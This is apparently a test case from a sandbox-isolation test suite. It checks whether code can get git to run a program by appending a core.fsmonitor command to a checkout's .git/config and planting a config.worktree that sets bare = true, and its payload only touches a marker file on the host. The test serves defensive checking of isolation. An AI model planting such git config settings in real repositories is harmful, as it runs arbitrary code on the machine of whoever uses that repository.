# attack: makes git run a program by the repository's configuration
# group: git
# sandboxed: stopped
# restricted: stopped
# unprotected: works (checkout, host, planted)
from prepare import *


def plant_config(text):
    with open(CHECKOUT + "/.git/config", "a") as file:
        file.write(f"# {MARK}\n{text}")


finish()
attempt(
    lambda: plant_config(f"[core]\n\tfsmonitor = touch {HOST}/ran; false\n"),
    lambda: plant(CHECKOUT + "/.git/config.worktree", "[core]\n\tbare = true\n"),
)
